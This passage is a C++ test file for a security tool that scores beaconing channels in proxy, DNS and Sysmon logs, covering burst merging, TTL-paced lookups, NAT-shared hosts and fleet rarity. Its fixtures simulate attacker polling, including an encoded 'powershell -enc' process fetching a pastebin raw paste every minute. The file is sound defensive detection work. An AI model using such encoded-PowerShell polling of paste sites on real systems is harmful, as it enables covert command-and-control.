// Channel model II (docs/scoring.md) with exact values: the AddressNamer (by host, by time, across
// hosts), chooseTiming() (burst merging, class choice, TTL pacing, long sessions), and the builder
// and scorer on cases written row by row — one channel across CONNECT lines, connections and
// lookups; a shared CDN address named by time; two bursts an hour apart; a DNS-only poll under a
// TTL-paced resolver; a NAT address marked shared — plus the lists of scoring.yaml: every one cites
// its public source, PowerShell's abbreviations, launcher parents by command line, role patterns.
#include "core/resources.h"
#include "scoring/address_namer.h"
#include "scoring/channel_builder.h"
#include "scoring/channel_members.h"
#include "scoring/channel_scorer.h"
#include "scoring/read_snapshot.h"
#include "scoring/scoring_config.h"
#include "scoring/scoring_engine.h"
#include "scoring/timing_source.h"
#include "scoring/web_service_catalog.h"
#include "store/case_store.h"
#include "store/statement.h"

#include <QElapsedTimer>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTemporaryDir>
#include <QTest>

#include <map>
#include <tuple>

using namespace socwb;
using namespace socwb::scoring;

namespace {

constexpr int64_t kT0 = 1709510400LL * 1000000; // 2024-03-04T00:00:00Z
constexpr int64_t kS = 1000000;

QByteArray defaults() {
    return resources::read(QStringLiteral("scoring/scoring.yaml"));
}

// A case written row by row: every feature has one right value.
class Fixture {
  public:
    Fixture() : store_(CaseStore::open(dir_.filePath(QStringLiteral("fixture.socwb")))) {
        exec("INSERT INTO evidence(id, path, sha256, size, format, status) VALUES (1, 'f', 'x', 0, 'squid', "
             "'imported')");
    }
    sqlite3* db() { return store_->db(); }
    QString path() const { return dir_.filePath(QStringLiteral("fixture.socwb")); }
    CaseStore& store() { return *store_; }
    void exec(const std::string& sql) { execSql(db(), sql); }
    void host(int64_t id, const char* name, const char* role, const char* ip) {
        Statement(db(), "INSERT INTO hosts(id, name, role, source) VALUES (?, ?, ?, 'asset')")
            .bind(1, id)
            .bind(2, name)
            .bind(3, role)
            .exec();
        Statement(db(),
                  "INSERT INTO host_addresses(ip, host_id, first_ts, last_ts, source) VALUES (?, ?, ?, ?, 'asset')")
            .bind(1, ip)
            .bind(2, id)
            .bind(3, kT0)
            .bind(4, kT0 + 86400 * kS)
            .exec();
    }
    void domain(int64_t id, const char* name, const char* reg) {
        Statement st(db(), "INSERT INTO domains(id, name, reg_domain, service_domain) VALUES (?, ?, ?, ?)");
        st.bind(1, id).bind(2, name).bindTextOrNull(3, reg ? reg : "").bindTextOrNull(4, reg ? reg : "").exec();
    }
    void process(int64_t id, int64_t host, const char* image, const char* cmd = "", const char* parent = "",
                 const char* parentCmd = "", const char* user = "CORP\\ann") {
        Statement st(db(), "INSERT INTO processes(id, host_id, process_guid, image, command_line, parent_image, "
                           "parent_command_line, user_name, known_from) VALUES (?, ?, ?, ?, ?, ?, ?, ?, 'create')");
        st.bind(1, id)
            .bind(2, host)
            .bind(3, "{" + std::to_string(id) + "}")
            .bind(4, image)
            .bind(5, cmd)
            .bind(6, parent)
            .bind(7, parentCmd)
            .bind(8, user)
            .exec();
    }
    // A proxy line; process > 0 ties it to that process with a five-tuple attribution.
    int64_t proxy(int64_t host, int64_t domain, int64_t ts, const char* method, const char* path, int64_t process = 0,
                  const char* user = nullptr, int64_t bytesIn = 690, int64_t durationMs = 200, double confidence = 0.95,
                  const char* userAgent = nullptr) {
        const int64_t id = ++proxyId_;
        Statement st(db(),
                     "INSERT INTO proxy_events(id, evidence_id, line_no, ts_us, host_id, domain_id, method, path, "
                     "bytes_in, user_name, duration_ms, user_agent) VALUES (?, 1, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)");
        st.bind(1, id).bind(2, id).bind(3, ts).bind(4, host).bind(5, domain).bind(6, method);
        st.bindTextOrNull(7, path ? path : "")
            .bind(8, bytesIn)
            .bindTextOrNull(9, user ? user : "")
            .bind(10, durationMs)
            .bindTextOrNull(11, userAgent ? userAgent : "");
        st.exec();
        if (process > 0) {
            Statement a(db(), "INSERT INTO attributions(request_kind, request_id, process_id, method, confidence) "
                              "VALUES ('proxy', ?, ?, ?, ?)");
            a.bind(1, id)
                .bind(2, process)
                .bind(3, confidence >= 0.95 ? "five-tuple" : "dns-answer")
                .bind(4, confidence);
            a.exec();
        }
        return id;
    }
    void dns(int64_t host, int64_t domain, int64_t ts, const char* answers = "", const char* ttls = "") {
        const int64_t id = ++dnsId_;
        Statement st(db(), "INSERT INTO dns_events(id, evidence_id, line_no, ts_us, host_id, domain_id, answers, ttls) "
                           "VALUES (?, 1, ?, ?, ?, ?, ?, ?)");
        st.bind(1, id).bind(2, id).bind(3, ts).bind(4, host).bind(5, domain);
        st.bindTextOrNull(6, answers).bindTextOrNull(7, ttls).exec();
    }
    void sysmonDns(int64_t host, int64_t process, int64_t domain, int64_t ts, const char* answers) {
        const int64_t ev = sysmonEvent(host, process, ts, 22);
        Statement st(db(), "INSERT INTO dns_queries(event_id, host_id, process_id, ts_us, domain_id, answers) "
                           "VALUES (?, ?, ?, ?, ?, ?)");
        st.bind(1, ev).bind(2, host).bind(3, process).bind(4, ts).bind(5, domain).bind(6, answers).exec();
    }
    void connection(int64_t host, int64_t process, int64_t ts, const char* ip, const char* name = "") {
        const int64_t ev = sysmonEvent(host, process, ts, 3);
        Statement st(db(), "INSERT INTO net_connections(event_id, host_id, process_id, ts_us, initiated, src_ip, "
                           "dst_ip, dst_port, dst_host) VALUES (?, ?, ?, ?, 1, '10.0.0.1', ?, 443, ?)");
        st.bind(1, ev).bind(2, host).bind(3, process).bind(4, ts).bind(5, ip).bindTextOrNull(6, name).exec();
    }
    std::vector<BuiltChannel> build(const ScoringConfig& config) {
        const WebServiceCatalog catalog = WebServiceCatalog::load();
        return ChannelBuilder(db(), catalog, config).build();
    }

  private:
    int64_t sysmonEvent(int64_t host, int64_t process, int64_t ts, int eventId) {
        const int64_t id = ++sysmonId_;
        Statement st(db(),
                     "INSERT INTO sysmon_events(id, evidence_id, record_no, ts_us, host_id, event_id, process_id) "
                     "VALUES (?, 1, ?, ?, ?, ?, ?)");
        st.bind(1, id).bind(2, id).bind(3, ts).bind(4, host).bind(5, eventId).bind(6, process).exec();
        return id;
    }
    QTemporaryDir dir_;
    std::unique_ptr<CaseStore> store_;
    int64_t proxyId_ = 0, dnsId_ = 0, sysmonId_ = 0;
};

const ChannelFeatures* find(const std::vector<BuiltChannel>& built, const QString& host, const QString& dest,
                            const QString& process = {}) {
    for (const BuiltChannel& b : built) {
        if (b.features.host == host && b.features.destination == dest &&
            (process.isNull() || b.features.processName == process)) {
            return &b.features;
        }
    }
    return nullptr;
}

const Factor* factor(const ScoredChannel& s, const char* name) {
    for (const Factor& f : s.factors) {
        if (f.name == QLatin1String(name)) {
            return &f;
        }
    }
    return nullptr;
}

// Whether a factor is among the reasons shown (factorsJson: zero-point ones only when they explain).
bool inReasons(const ScoredChannel& s, const char* name) {
    for (const QJsonValue& v : s.factorsJson()) {
        if (v.toObject().value("name").toString() == QLatin1String(name)) {
            return true;
        }
    }
    return false;
}

// A channel's member ids as BuiltChannel holds them (encoded as the alert stores them).
std::vector<int64_t> ids(const QByteArray& blob) {
    return decodeMemberIds(blob.constData(), static_cast<int>(blob.size()));
}

std::vector<ChannelFeatures> featuresOf(const std::vector<BuiltChannel>& built) {
    std::vector<ChannelFeatures> out;
    for (const BuiltChannel& b : built) {
        out.push_back(b.features);
    }
    return out;
}

size_t indexOf(const std::vector<ChannelFeatures>& all, const char* host, const char* dest) {
    for (size_t i = 0; i < all.size(); ++i) {
        if (all[i].host == QLatin1String(host) && all[i].destination == QLatin1String(dest)) {
            return i;
        }
    }
    return all.size();
}

std::vector<MemberCount> members(std::initializer_list<MemberCount> list) {
    return std::vector<MemberCount>(list);
}

} // namespace

class TestChannelModel : public QObject {
    Q_OBJECT
  private slots:
    void namerByHostAndTime();
    void burstsAreOnePoll();
    void timingClassChoice();
    void ttlPacedLookups();
    void longSessionsAreUnmeasurable();
    void oneChannelAcrossConnectConnectionsAndLookups();
    void sharedCdnAddressNamedByTime();
    void twoBurstsAnHourApartAreNotPeriodic();
    void dnsOnlyPollUnderTtlPacedResolver();
    void natAddressIsShared();
    void proxyLookupsAreNoPeer();
    void fleetComparesLikeHosts();
    void linesBeforeProcessEvidenceJoinTheOnlyPoller();
    void aVisitorIsNoPollerOfTheEndpoint();
    void answerTiedLinesOfAnotherUserAgent();
    void untiedLinesJoinTheProcessAtTheirCadence();
    void requestSharesLeaveOutTunnels();
    void electronUserAgentIsNoMismatch();
    void everyListCitesItsSource();
    void powershellAbbreviations_data();
    void powershellAbbreviations();
    void launcherParentsByCommandLine();
    void rolePatterns();
    void unusualClientOfAFleetService();
    void weakTiesYieldToConnections();
    void rescoreRefusesOlderFeatures();
    void parkedEventsGiveTheSameChannels();
    void twoReadersGiveTheSameChannels();
    void twoReadersShareOneSnapshot();
    void progressCountsBothReadingParts();
};

void TestChannelModel::namerByHostAndTime() {
    AddressNamer n({3600 * kS, 120 * kS});
    // Host 1 was told a.example (id 10) at 1.2.3.4 at 00:00, then b.example (id 11) at 01:00.
    n.add("1.2.3.4", 1, kT0, 10);
    n.add("1.2.3.4", 1, kT0 + 3600 * kS, 11);
    n.add("1.2.3.4", 1, kT0 + 3000 * kS, 10);
    // Host 2 was told c.example (12) at 00:30; nobody named 9.9.9.9.
    n.add("1.2.3.4", 2, kT0 + 1800 * kS, 12);
    n.addList(" 5.6.7.8 ,cname.example.net,::1", 3, kT0, 13);
    n.finish();
    QCOMPARE(n.answers(), size_t(6)); // the CNAME target is not an address
    auto is = [](AddressNamer::Result r, int64_t domain, Naming how) { return r.domainId == domain && r.how == how; };
    // The latest answer at or before the time: a.example until b.example's answer at 01:00.
    QVERIFY(is(n.name(1, "1.2.3.4", kT0 + 3599 * kS), 10, Naming::HostDns));
    QVERIFY(is(n.name(1, "1.2.3.4", kT0 + 3601 * kS), 11, Naming::HostDns));
    // An answer 60 s after the event still names it (skew between logs); 200 s after does not,
    // and then the fleet's nearest answer does.
    QVERIFY(is(n.name(1, "1.2.3.4", kT0 - 60 * kS), 10, Naming::HostDns));
    QVERIFY(is(n.name(1, "1.2.3.4", kT0 - 200 * kS), 10, Naming::FleetDns));
    // Beyond the window of host 1's last answer (01:00 + 1 h): the fleet's nearest answer.
    QVERIFY(is(n.name(1, "1.2.3.4", kT0 + 7300 * kS), 11, Naming::FleetDns));
    // Host 4 never asked: the nearest answer of any host, by time.
    QVERIFY(is(n.name(4, "1.2.3.4", kT0 + 1700 * kS), 12, Naming::FleetDns));
    QVERIFY(is(n.name(4, "1.2.3.4", kT0 + 2900 * kS), 10, Naming::FleetDns));
    QVERIFY(is(n.name(3, "5.6.7.8", kT0 + 10 * kS), 13, Naming::HostDns));
    QVERIFY(is(n.name(3, "::1", kT0), 13, Naming::HostDns));
    QVERIFY(is(n.name(1, "9.9.9.9", kT0), 0, Naming::Address));
    QCOMPARE(namingName(Naming::HostDns), std::string_view("host_dns"));
    QCOMPARE(namingName(Naming::Query), std::string_view("-"));
}

void TestChannelModel::burstsAreOnePoll() {
    std::vector<uint32_t> starts;
    // One-second timestamps: 3 at 0 s, 2 at 1 s (a new poll: 1 s from the first), 1 at 61 s.
    const std::vector<int64_t> ts{0, 0, 0, kS, kS, 61 * kS};
    QCOMPARE(mergeBursts(ts, kS, &starts), (std::vector<int64_t>{0, kS, 61 * kS}));
    QCOMPARE(starts, (std::vector<uint32_t>{0, 3, 5}));
    // Within 1 s of the poll's first event, not of the previous event: 0, 0.6, 1.2 are two polls.
    QCOMPARE(mergeBursts({0, 600000, 1200000}, kS), (std::vector<int64_t>{0, 1200000}));
}

void TestChannelModel::timingClassChoice() {
    auto series = [](MemberSource s, int n, int64_t step) {
        SourceSeries out;
        out.source = s;
        for (int i = 0; i < n; ++i) {
            out.tsUs.push_back(kT0 + i * step);
        }
        return out;
    };
    const TimingConfig c;
    // Enough requests: the request class wins over more sessions and lookups.
    Timing t = chooseTiming({series(MemberSource::Http, 6, 60 * kS), series(MemberSource::SysmonNet, 40, 10 * kS),
                             series(MemberSource::DnsLog, 90, 5 * kS)},
                            c);
    QCOMPARE(t.source, MemberSource::Http);
    QCOMPARE(t.cls, TimingClass::Request);
    QCOMPARE(t.polls.size(), size_t(6));
    QCOMPARE(t.note, QStringLiteral("timed on 6 HTTP requests"));
    // Five requests are too few: the session class, its larger source (connect over sysmon_net).
    t = chooseTiming({series(MemberSource::Http, 5, 60 * kS), series(MemberSource::SysmonNet, 7, 10 * kS),
                      series(MemberSource::Connect, 8, 10 * kS), series(MemberSource::DnsLog, 90, 5 * kS)},
                     c);
    QCOMPARE(t.source, MemberSource::Connect);
    QCOMPARE(t.events, int64_t(8));
    // Lookups only: the larger of dns_log and sysmon_dns.
    t = chooseTiming({series(MemberSource::DnsLog, 7, 60 * kS), series(MemberSource::SysmonDns, 9, 60 * kS)}, c);
    QCOMPARE(t.source, MemberSource::SysmonDns);
    QCOMPARE(t.cls, TimingClass::Lookup);
    // No class has enough polls: the one with the most.
    t = chooseTiming({series(MemberSource::Http, 2, 60 * kS), series(MemberSource::DnsLog, 4, 60 * kS)}, c);
    QCOMPARE(t.source, MemberSource::DnsLog);
    QCOMPARE(t.note, QStringLiteral("timed on 4 resolver-log lookups; no source has 6 polls"));
    QVERIFY(chooseTiming({}, c).empty());
}

void TestChannelModel::ttlPacedLookups() {
    // A poller asking every 60 s behind a resolver cache with a 300 s TTL: the log sees a lookup
    // when the cache has expired, 300..360 s apart.
    SourceSeries s;
    s.source = MemberSource::DnsLog;
    int64_t ts = kT0;
    const int64_t gaps[] = {300, 330, 360};
    for (int i = 0; i < 30; ++i) {
        s.tsUs.push_back(ts);
        s.ttlS.push_back(300);
        ts += gaps[i % 3] * kS;
    }
    Timing t = chooseTiming({s}, TimingConfig{});
    QVERIFY(t.ttlPaced);
    QCOMPARE(t.ttlS, 300.0);
    QVERIFY2(t.note.contains(QLatin1String("every TTL (300 s)")), qPrintable(t.note));
    // The same lookups an hour apart are the poller's own cadence, not the cache's.
    for (size_t i = 0; i < s.tsUs.size(); ++i) {
        s.tsUs[i] = kT0 + int64_t(i) * 3600 * kS;
    }
    t = chooseTiming({s}, TimingConfig{});
    QVERIFY(!t.ttlPaced);
    // Without TTLs in the log nothing can be said about the cache.
    s.ttlS.assign(s.tsUs.size(), 0);
    QCOMPARE(chooseTiming({s}, TimingConfig{}).ttlS, 0.0);
}

void TestChannelModel::longSessionsAreUnmeasurable() {
    SourceSeries s;
    s.source = MemberSource::Connect;
    // Three tunnels, each held 3 h, over 9 h: whatever polled inside them cannot be seen.
    for (int i = 0; i < 3; ++i) {
        s.tsUs.push_back(kT0 + i * 3 * 3600 * kS);
        s.durationMs.push_back(3 * 3600 * 1000);
    }
    Timing t = chooseTiming({s}, TimingConfig{});
    QVERIFY(t.unmeasurable);
    QVERIFY2(t.note.contains(QLatin1String("held open for 9.0 h of its 9.0 h")), qPrintable(t.note));
    s.durationMs.assign(3, 1000); // short tunnels: just few of them
    QVERIFY(!chooseTiming({s}, TimingConfig{}).unmeasurable);
}

void TestChannelModel::oneChannelAcrossConnectConnectionsAndLookups() {
    // WS011's PowerShell polls pastebin's raw paste every 60 s through a TLS-inspecting proxy: each
    // poll is a CONNECT line to the address its own DNS answer gave (no process tied to it), the
    // decrypted request, and a Sysmon connection to the other answered address without a host
    // name; the resolver log sees a lookup each time the 300 s cache expires.
    Fixture f;
    f.host(1, "WS011", "workstation", "10.0.0.11");
    f.domain(1, "pastebin.com", "pastebin.com");
    f.domain(2, "104.18.9.44", nullptr);
    f.process(7, 1, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)",
              "powershell -enc QQBBAEEAQQBBAEEAQQBBAEEA");
    for (int k = 0; k < 30; ++k) {
        const int64_t t = kT0 + (10 + 60 * k) * kS;
        if (k % 5 == 0) {
            f.dns(1, 1, t - 20000, "104.18.9.44,104.21.40.16", "300,300");
        }
        f.connection(1, 7, t - 50000, "104.21.40.16");
        f.proxy(1, 2, t, "CONNECT", nullptr);
        f.proxy(1, 1, t + 100000, "GET", "/raw/Ab12Cd34", 7);
    }
    f.sysmonDns(1, 7, 1, kT0 + 9 * kS, "104.18.9.44;104.21.40.16");
    const ScoringConfig config = ScoringConfig::fromYaml(defaults());
    const std::vector<BuiltChannel> built = f.build(config);
    QCOMPARE(built.size(), size_t(1)); // one channel, one row
    const ChannelFeatures& c = built.front().features;
    QCOMPARE(c.destination, QStringLiteral("pastebin.com"));
    QCOMPARE(c.endpoint, QStringLiteral("pastebin.com/raw/Ab12Cd34"));
    QCOMPARE(c.processName, QStringLiteral("powershell.exe"));
    QCOMPARE(c.members, members({{"http", "record", 30},
                                 {"connect", "host_dns", 30},
                                 {"sysmon_net", "host_dns", 30},
                                 {"dns_log", "-", 6},
                                 {"sysmon_dns", "-", 1}}));
    QCOMPARE(
        c.membersText(),
        QStringLiteral("http/record 30, connect/host_dns 30, sysmon_net/host_dns 30, dns_log/- 6, sysmon_dns/- 1"));
    QCOMPARE(c.timingSource, QStringLiteral("http"));
    QCOMPARE(c.timingClass, QStringLiteral("request"));
    QCOMPARE(c.polls, int64_t(30));
    QCOMPARE(c.events, int64_t(30));
    QCOMPARE(c.proxyRequests, int64_t(60));
    QCOMPARE(c.netConnections, int64_t(30));
    QCOMPARE(c.dnsQueries, int64_t(7));
    QCOMPARE(c.medianInterval, 60.0);
    QCOMPARE(c.intervals, int64_t(29));
    QCOMPARE(c.bandIntervals, int64_t(29));
    QCOMPARE(ids(built.front().proxyBlob).size(), size_t(60));
    QCOMPARE(ids(built.front().netBlob).size(), size_t(30));
    QCOMPARE(c.featureVersion, kFeatureVersion);
}

void TestChannelModel::sharedCdnAddressNamedByTime() {
    // 1.2.3.4 serves two names to WS-A: a.example.com until 00:50, then b.example.com. WS-B asked
    // nothing; WS-C talks to an address no answer ever named.
    Fixture f;
    f.host(1, "WS-A", "workstation", "10.0.0.1");
    f.host(2, "WS-B", "workstation", "10.0.0.2");
    f.host(3, "WS-C", "workstation", "10.0.0.3");
    f.domain(1, "a.example.com", "example.com");
    f.domain(2, "b.example.com", "example.com");
    f.process(1, 1, R"(C:\Tools\agent.exe)");
    f.process(2, 2, R"(C:\Tools\agent.exe)");
    f.process(3, 3, R"(C:\Tools\agent.exe)");
    f.dns(1, 1, kT0, "1.2.3.4", "60");
    f.dns(1, 2, kT0 + 3000 * kS, "1.2.3.4", "60");
    for (int k = 1; k <= 12; ++k) {
        f.connection(1, 1, kT0 + 200 * k * kS, "1.2.3.4");         // 200 .. 2400 s: a.example.com
        f.connection(1, 1, kT0 + (3000 + 60 * k) * kS, "1.2.3.4"); // 3060 .. 3720 s: b.example.com
    }
    f.connection(2, 2, kT0 + 50 * kS, "1.2.3.4");   // nearest answer: a.example.com at 00:00
    f.connection(2, 2, kT0 + 2990 * kS, "1.2.3.4"); // nearest answer: b.example.com at 00:50
    f.connection(3, 3, kT0 + 10 * kS, "5.6.7.8");
    const std::vector<BuiltChannel> built = f.build(ScoringConfig::fromYaml(defaults()));
    QCOMPARE(built.size(), size_t(5));
    const ChannelFeatures* a = find(built, "WS-A", "a.example.com");
    const ChannelFeatures* b = find(built, "WS-A", "b.example.com");
    QVERIFY(a && b);
    QCOMPARE(a->members, members({{"sysmon_net", "host_dns", 12}, {"dns_log", "-", 1}}));
    QCOMPARE(b->members, members({{"sysmon_net", "host_dns", 12}, {"dns_log", "-", 1}}));
    QCOMPARE(a->firstTs, kT0); // its lookup
    QCOMPARE(a->lastTs, kT0 + 2400 * kS);
    QCOMPARE(b->medianInterval, 60.0);
    const ChannelFeatures* bA = find(built, "WS-B", "a.example.com");
    const ChannelFeatures* bB = find(built, "WS-B", "b.example.com");
    QVERIFY(bA && bB);
    QCOMPARE(bA->members, members({{"sysmon_net", "fleet_dns", 1}}));
    QCOMPARE(bB->firstTs, kT0 + 2990 * kS);
    const ChannelFeatures* bare = find(built, "WS-C", "5.6.7.8");
    QVERIFY(bare);
    QVERIFY(bare->destinationIsAddress);
    QCOMPARE(bare->members, members({{"sysmon_net", "address", 1}}));
    QCOMPARE(bare->registeredDomain, QString());
}

void TestChannelModel::twoBurstsAnHourApartAreNotPeriodic() {
    // A log with one-second timestamps: 50 requests at 01:00:00 and 50 at 02:00:00; and on a second
    // host two bursts of 50 requests spread over five seconds each.
    Fixture f;
    f.host(1, "IIS-A", "workstation", "10.0.0.1");
    f.host(2, "IIS-B", "workstation", "10.0.0.2");
    f.domain(1, "updates.example.org", "example.org");
    for (int i = 0; i < 50; ++i) {
        f.proxy(1, 1, kT0 + 3600 * kS, "GET", "/poll");
        f.proxy(1, 1, kT0 + 7200 * kS, "GET", "/poll");
        f.proxy(2, 1, kT0 + (3600 + i / 10) * kS, "GET", "/poll");
        f.proxy(2, 1, kT0 + (7200 + i / 10) * kS, "GET", "/poll");
    }
    const ScoringConfig config = ScoringConfig::fromYaml(defaults());
    const std::vector<BuiltChannel> built = f.build(config);
    const ChannelFeatures* same = find(built, "IIS-A", "updates.example.org");
    const ChannelFeatures* spread = find(built, "IIS-B", "updates.example.org");
    QVERIFY(same && spread);
    QCOMPARE(same->events, int64_t(100));
    QCOMPARE(same->polls, int64_t(2));
    QCOMPARE(same->intervals, int64_t(1));
    QCOMPARE(same->medianInterval, 3600.0);
    QCOMPARE(spread->polls, int64_t(10));
    QCOMPARE(spread->intervals, int64_t(9));
    QCOMPARE(spread->medianInterval, 1.0);
    const std::vector<ScoredChannel> s =
        ChannelScorer(config, {}, QDateTime::currentDateTimeUtc()).score({*same, *spread});
    const Factor* p0 = factor(s[0], "periodicity");
    QVERIFY(p0);
    QCOMPARE(p0->contribution, 0.0);
    QVERIFY2(p0->detail.startsWith(QLatin1String("1 gap(s) between 2 poll(s): too few to judge a cadence (needs 5)")),
             qPrintable(p0->detail));
    const Factor* p1 = factor(s[1], "periodicity");
    QCOMPARE(p1->contribution, 0.0);
    QVERIFY2(p1->detail.startsWith(QLatin1String("polls come in bursts (median gap 1.0 s)")), qPrintable(p1->detail));
    // Neither earns idle hours or rarity, which need a cadence.
    QVERIFY(!factor(s[0], "rare_in_fleet") && !factor(s[0], "idle_hours"));
}

void TestChannelModel::dnsOnlyPollUnderTtlPacedResolver() {
    // DB-1 bypasses the proxy; a poller on it asks every 60 s, its resolver caches for 300 s, so the
    // log (with TTLs) sees lookups 300..360 s apart for a day. WS-1..4 poll the same site every 330 s
    // through the proxy; WS-5..7 looked it up for half an hour while browsing.
    Fixture f;
    f.host(1, "DB-1", "database-server", "10.0.1.1");
    f.domain(1, "notes.example.net", "example.net");
    const int64_t gaps[] = {300, 330, 360};
    int64_t t = kT0;
    for (int i = 0; i < 260; ++i) {
        f.dns(1, 1, t, "203.0.113.7", "300");
        t += gaps[i % 3] * kS;
    }
    for (int h = 2; h <= 8; ++h) {
        const std::string name = "WS-" + std::to_string(h - 1);
        f.host(h, name.c_str(), "workstation", ("10.0.0." + std::to_string(h)).c_str());
        for (int i = 0; i < (h <= 5 ? 200 : 6); ++i) {
            if (h <= 5) {
                f.proxy(h, 1, kT0 + (100 * h + 330 * i) * kS, "GET", "/notes");
            } else {
                f.dns(h, 1, kT0 + (7200 + 330 * i) * kS, "203.0.113.7", "300");
            }
        }
    }
    ScoringConfig config = ScoringConfig::fromYaml(defaults());
    std::vector<BuiltChannel> built = f.build(config);
    const ChannelFeatures* db = find(built, "DB-1", "notes.example.net");
    QVERIFY(db);
    QCOMPARE(db->timingSource, QStringLiteral("dns_log"));
    QCOMPARE(db->timingClass, QStringLiteral("lookup"));
    QVERIFY(db->ttlPaced);
    QCOMPARE(db->ttlS, 300.0);
    QCOMPARE(db->polls, int64_t(260));
    QCOMPARE(db->medianInterval, 330.0);
    QCOMPARE(db->bandShare, 1.0);
    std::vector<ChannelFeatures> all = featuresOf(built);
    size_t at = indexOf(all, "DB-1", "notes.example.net");
    QVERIFY(at < all.size());
    std::vector<ScoredChannel> s = ChannelScorer(config, {}, QDateTime::currentDateTimeUtc()).score(all);
    // Measured, and not discounted: the proxied pollers' cadence is theirs, not the cache's, and
    // half an hour of lookups is no continuous presence.
    QVERIFY(!factor(s[at], "fleet_wide"));
    QCOMPARE(factor(s[at], "periodicity")->contribution, 24.0);
    QVERIFY2(factor(s[at], "periodicity")->detail.startsWith(QLatin1String("looked up at least every 5.5 min")),
             qPrintable(factor(s[at], "periodicity")->detail));
    QCOMPARE(factor(s[at], "rare_in_fleet")->contribution, 8.0);
    // Three more servers with the same continuous lookups for a day: that is a fleet.
    for (int h = 9; h <= 11; ++h) {
        f.host(h, ("DB-" + std::to_string(h - 7)).c_str(), "database-server", ("10.0.1." + std::to_string(h)).c_str());
        for (int i = 0; i < 250; ++i) {
            f.dns(h, 1, kT0 + (50 * h + 320 * i) * kS, "203.0.113.7", "300");
        }
    }
    built = f.build(config);
    all = featuresOf(built);
    at = indexOf(all, "DB-1", "notes.example.net");
    QVERIFY(at < all.size());
    s = ChannelScorer(config, {}, QDateTime::currentDateTimeUtc()).score(all);
    const Factor* fleet = factor(s[at], "fleet_wide");
    QVERIFY(fleet);
    QVERIFY2(
        fleet->detail.startsWith(QLatin1String("continuous lookups from (unknown process) to example.net on 4 of 4 "
                                               "servers (lookup evidence)")),
        qPrintable(fleet->detail));
}

void TestChannelModel::natAddressIsShared() {
    // 10.0.9.1 is a NAT gateway in front of a guest network: six people authenticate at the proxy
    // from it. One of them polls a small site every 5 minutes; so does one workstation elsewhere.
    Fixture f;
    f.host(1, "10.0.9.1", "", "10.0.9.1");
    f.host(2, "WS-1", "workstation", "10.0.0.2");
    f.host(3, "WS-2", "workstation", "10.0.0.3");
    f.host(4, "CTX-7", "Citrix VDA", "10.0.0.4");
    f.domain(1, "tracker.example.org", "example.org");
    f.domain(2, "news.example.com", "example.com");
    const char* users[] = {"ann", "bob", "cy", "dee", "eve", "fay"};
    for (int i = 0; i < 60; ++i) {
        f.proxy(1, 1, kT0 + 300 * i * kS, "GET", "/ping", 0, "ann");
        f.proxy(1, 2, kT0 + (17 + 631 * i) * kS, "GET", "/index.html", 0, users[i % 6]);
        f.proxy(3, 2, kT0 + (19 + 700 * i) * kS, "GET", "/index.html");
        f.proxy(4, 2, kT0 + (23 + 800 * i) * kS, "GET", "/index.html");
    }
    const ScoringConfig config = ScoringConfig::fromYaml(defaults());
    const std::vector<BuiltChannel> built = f.build(config);
    const ChannelFeatures* nat = find(built, "10.0.9.1", "tracker.example.org");
    QVERIFY(nat);
    QVERIFY(nat->hostShared);
    QCOMPARE(nat->hostSharedReason, QStringLiteral("6 users authenticated at the proxy from it"));
    const ChannelFeatures* citrix = find(built, "CTX-7", "news.example.com");
    QVERIFY(citrix && citrix->hostShared);
    QCOMPARE(citrix->hostSharedReason, QStringLiteral("its inventory role is \u201cCitrix VDA\u201d"));
    QVERIFY(!find(built, "WS-2", "news.example.com")->hostShared);
    const std::vector<ChannelFeatures> all = featuresOf(built);
    const std::vector<ScoredChannel> s = ChannelScorer(config, {}, QDateTime::currentDateTimeUtc()).score(all);
    // Rarity means nothing behind a NAT: the factor is left out and the reason shown. The same
    // poll from a workstation of its own is rare.
    const size_t i = indexOf(all, "10.0.9.1", "tracker.example.org");
    QVERIFY(i < all.size());
    QVERIFY(!factor(s[i], "rare_in_fleet"));
    QVERIFY(!factor(s[i], "idle_hours"));
    const Factor* shared = factor(s[i], "shared_host");
    QVERIFY(shared);
    QCOMPARE(shared->contribution, 0.0);
    QCOMPARE(shared->detail, QStringLiteral("10.0.9.1 is shared by many users (6 users authenticated at the proxy "
                                            "from it): rarity, uniqueness and idle hours are not scored"));
    bool listed = false;
    for (const QJsonValue& v : s[i].factorsJson()) {
        listed = listed || v.toObject().value("name").toString() == QLatin1String("shared_host");
    }
    QVERIFY(listed); // shown with the alert although it adds nothing
}

void TestChannelModel::proxyLookupsAreNoPeer() {
    // SQL01 reaches the web through a forward proxy without inspection: a CONNECT gitlab.com line
    // every 10 min. The proxy (SWG01) resolves that name for it each time, so the resolver log holds
    // SWG01's lookups at the same cadence. DC01 and EX01 poll something else. The proxy is no peer:
    // the channel is the only one of its kind on the servers, not "the same on 2 of 4".
    Fixture f;
    f.host(1, "SQL01", "MSSQL", "10.0.1.1");
    f.host(2, "SWG01", "Secure Web Gateway", "10.0.1.2");
    f.host(3, "DC01", "Domain Controller", "10.0.1.3");
    f.host(4, "EX01", "Exchange (hybrid)", "10.0.1.4");
    f.domain(1, "gitlab.com", "gitlab.com");
    f.domain(2, "update.example.com", "example.com");
    for (int i = 0; i < 40; ++i) {
        const int64_t t = kT0 + 600 * i * kS;
        f.proxy(1, 1, t, "CONNECT", nullptr);
        f.dns(2, 1, t + 20000, "172.65.251.78", "30");
        f.proxy(3, 2, kT0 + 3600 * i * kS, "GET", "/check");
        f.proxy(4, 2, kT0 + (100 + 3600 * i) * kS, "GET", "/check");
    }
    const ScoringConfig config = ScoringConfig::fromYaml(defaults());
    QVERIFY(config.isRelayRole(QStringLiteral("Secure Web Gateway")));
    QVERIFY(config.isRelayRole(QStringLiteral("squid proxy")));
    QVERIFY(!config.isRelayRole(QStringLiteral("NAT gateway (guest Wi-Fi)")));
    const std::vector<ChannelFeatures> all = featuresOf(f.build(config));
    const size_t i = indexOf(all, "SQL01", "gitlab.com");
    QVERIFY(i < all.size());
    QCOMPARE(all[i].timingSource, QStringLiteral("connect"));
    QCOMPARE(all[i].medianInterval, 600.0);
    const std::vector<ScoredChannel> s = ChannelScorer(config, {}, QDateTime::currentDateTimeUtc()).score(all);
    QVERIFY(!factor(s[i], "fleet_wide"));
    QVERIFY(factor(s[i], "rare_in_fleet"));
    QCOMPARE(factor(s[i], "rare_in_fleet")->detail, QStringLiteral("same cadence to gitlab on 1 of 4 hosts"));
    // The proxy's own lookups of the name are SQL01's channel again: discounted, with the reason.
